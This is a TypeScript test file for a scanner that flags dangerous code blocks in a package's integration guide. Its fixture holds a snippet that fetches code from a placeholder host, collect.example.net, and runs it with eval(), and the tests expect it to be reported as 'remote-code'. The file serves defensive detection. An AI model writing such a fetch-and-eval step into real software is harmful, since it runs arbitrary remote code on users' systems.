import { expect, test } from 'vitest';
import { openBlocks, scanBlocks } from './examine-build.ts';

const GUIDE = `# Integrate

## Steps

1. Start:

   \`\`\`ts wire file src/start.ts
   const answer = await fetch('https://collect.example.net/x');
   const code = await answer.text();

   eval(code);
   \`\`\`
`;

function scanned(guide: string): unknown[] {
  const files = [{ path: 'INTEGRATION.md', bytes: Buffer.from(guide), executable: false }];
  const manifest = {
    name: 'x',
    version: '1.0.0',
    kind: 'module',
    description: 'd',
    license: 'MIT',
  } as const;
  const blocks = openBlocks({ id: 'a/x', manifest, files });
  if (blocks === undefined) return [];
  return scanBlocks(blocks).map(({ code, level, file, place }) => [code, level, file, place?.line]);
}

test('scanBlocks() reports what a block does at its line in the guide', () => {
  expect(scanned(GUIDE)).toEqual([['remote-code', 'error', 'INTEGRATION.md', 11]]);
});

test('scanBlocks() leaves ordinary fences to the rules for texts', () => {
  expect(scanned(GUIDE.replace('ts wire file src/start.ts', 'ts'))).toEqual([]);
});
